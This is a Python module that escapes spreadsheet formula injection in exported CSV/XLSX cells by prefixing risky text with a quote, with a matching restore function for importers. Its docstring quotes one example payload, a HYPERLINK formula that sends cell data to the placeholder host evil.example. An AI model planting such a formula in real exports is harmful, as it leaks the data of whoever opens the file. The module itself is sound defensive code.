"""Spreadsheet formula injection (CSV/XLSX injection), neutralised the way OWASP describes it.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or their full-width
forms, which spreadsheet programs in Chinese locales also accept) is read as a formula when the file is
opened, so a name like ``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` filed by anyone would run in
the supervisor's spreadsheet. Every exported text cell goes through ``neutralise``, which puts a single
quote in front of such text; genuine numbers (``-12.5``, ``+3``) and non-text values are left as they are.
Leading quotes are themselves escaped (one more quote), so ``restore`` — used by the importers — gives
back exactly the original text and an exported file still imports unchanged.
"""

from __future__ import annotations

import re

TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _dangerous(text: str) -> bool:
    """Text that a spreadsheet could read as a formula once any leading quotes are stripped."""
    bare = text.lstrip("'")
    return bool(bare) and bare[0] in TRIGGERS and _NUMBER.fullmatch(bare) is None


def neutralise(value: object) -> object:
    """The cell to write for ``value``: text that could start a formula gets a leading ``'``."""
    if isinstance(value, str) and _dangerous(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """Undo ``neutralise`` on a cell read back from an exported file."""
    if text.startswith("'") and _dangerous(text[1:]):
        return text[1:]
    return text
